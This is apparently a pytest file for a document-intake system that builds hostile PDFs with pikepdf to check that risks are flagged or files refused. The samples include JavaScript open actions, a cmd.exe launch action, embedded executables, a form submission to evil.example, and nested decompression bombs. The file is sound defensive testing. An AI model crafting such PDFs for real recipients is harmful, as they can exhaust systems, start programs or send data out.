"""Risks: what a PDF would do, or brings with it, is told; what starts a program is refused."""

import io
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream

from cases.evidence import keep
from cases.refusal import FileIncomplete, FileRefused, FileUnreadable
from cases.settings import Settings
from tests.cases.evidence.test_keeping import a_zip_bomb
from tests.makers import PAYSLIP, a_desk, in_chunks, what_lies_in


def made(change: Callable[[Pdf], object], pages: int = 1) -> bytes:
    """A PDF that was changed."""
    pdf, out = pikepdf.new(), io.BytesIO()
    for _ in range(pages):
        pdf.add_blank_page()
    change(pdf)
    pdf.save(out)
    return out.getvalue()


def holding(pdf: Pdf, name: str, content: bytes) -> None:
    """A file in the PDF."""
    file = Stream(pdf, content)
    file.Type = Name.EmbeddedFile
    told = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=name, UF=name, EF=Dictionary(F=file)))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([name, told])))


def script(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def deep_script(pdf: Pdf) -> None:
    press = Dictionary(S=Name.JavaScript, JS=Stream(pdf, b"app.alert(1)"))
    pdf.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, Next=Array([press])))])


def launch(pdf: Pdf) -> None:
    pdf.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F="cmd.exe"))])


def form(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(XFA=Stream(pdf, b"<xdp/>"), Fields=Array([]))


def leads_on(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))


def sends(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F="https://evil.example")


def film(pdf: Pdf) -> None:
    pdf.pages[0].Annots = Array([Dictionary(Subtype=Name.RichMedia)])


def bomb(pdf: Pdf) -> None:
    packed = bytes(1_000_000)
    packer = zlib.compressobj()
    drawn = b"".join(packer.compress(packed) for _ in range(900)) + packer.flush()
    pdf.pages[0].Contents = Stream(pdf, drawn, Filter=Name.FlateDecode)


def bomb_in_bombs(pdf: Pdf) -> None:
    drawn = bytes(600_000_000)
    for _ in range(10):
        drawn = zlib.compress(drawn)
    pdf.pages[0].Contents = Stream(pdf, drawn, Filter=Array([Name.FlateDecode] * 10))


def huge(pdf: Pdf) -> None:
    picture = Stream(pdf, b"x", Type=Name.XObject, Subtype=Name.Image, Width=60_000, Height=60_000)
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Photo=picture))


@pytest.mark.parametrize(
    ("content", "risks"),
    [
        (PAYSLIP, ()),
        (made(leads_on), ()),
        (made(script), ("javascript", "action-on-opening")),
        (made(deep_script), ("javascript",)),
        (made(sends), ("action-on-opening",)),
        (made(lambda pdf: holding(pdf, "rechnung.xml", b"<invoice/>")), ("embedded-file",)),
        (made(form), ("xfa-form",)),
        (made(film), ("rich-media",)),
    ],
    ids=[
        "A01 none", "A26 leads to a page", "A26 JavaScript", "A26 JavaScript far inside", "A26 sends a form",
        "A26 a file in it", "A26 XFA", "A26 a film",
    ],
)  # fmt: skip
async def test_what_a_pdf_would_do_is_told(house: Settings, content: bytes, risks: tuple[str, ...]) -> None:
    assert (await keep(a_desk(house), "voorbeeldstad", in_chunks(content))).risks == risks


@pytest.mark.parametrize(
    "content",
    [
        made(launch),
        made(lambda pdf: holding(pdf, "payslip.pdf.exe", b"text")),
        made(lambda pdf: holding(pdf, "notes.txt", b"MZ\x90\x00")),
        PAYSLIP + a_zip_bomb(),
        PAYSLIP + a_zip_bomb() + b"\n%%EOF",
        made(lambda _: None, pages=501),
        made(huge),
        made(bomb),
        made(bomb_in_bombs),
        b"%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Prev 9>>\nstartxref\n9\n%%EOF",
    ],
    ids=[
        "A26 starts a program", "A26 brings a program", "A26 brings a program by another name", "a zip behind it",
        "a zip in it that ends as a PDF", "too many pages", "A20 a picture of 60000 by 60000", "A24 a bomb",
        "A24 a bomb in bombs", "A25 tables that lead to each other",
    ],
)  # fmt: skip
async def test_what_harms_whoever_opens_it_is_refused(house: Settings, content: bytes) -> None:
    with pytest.raises(FileRefused) as refused:
        await keep(a_desk(house), "voorbeeldstad", in_chunks(content, 100_000))
    assert refused.type in (FileUnreadable, FileIncomplete)
    assert what_lies_in(house.stage) == what_lies_in(Path(house.vault)) == []


async def test_a25_a_pdf_of_very_many_objects_is_looked_at_within_its_time_or_refused(house: Settings) -> None:
    many = b"".join(b"%d 0 obj\n<<>>\nendobj\n" % n for n in range(4, 300_000))
    content = PAYSLIP[: PAYSLIP.rindex(b"startxref")] + many + PAYSLIP[PAYSLIP.rindex(b"startxref") :]
    spoiled = content.replace(b"startxref\n", b"startxref\n9")
    with pytest.raises(FileUnreadable):
        await keep(a_desk(house), "voorbeeldstad", in_chunks(spoiled, 1_000_000))
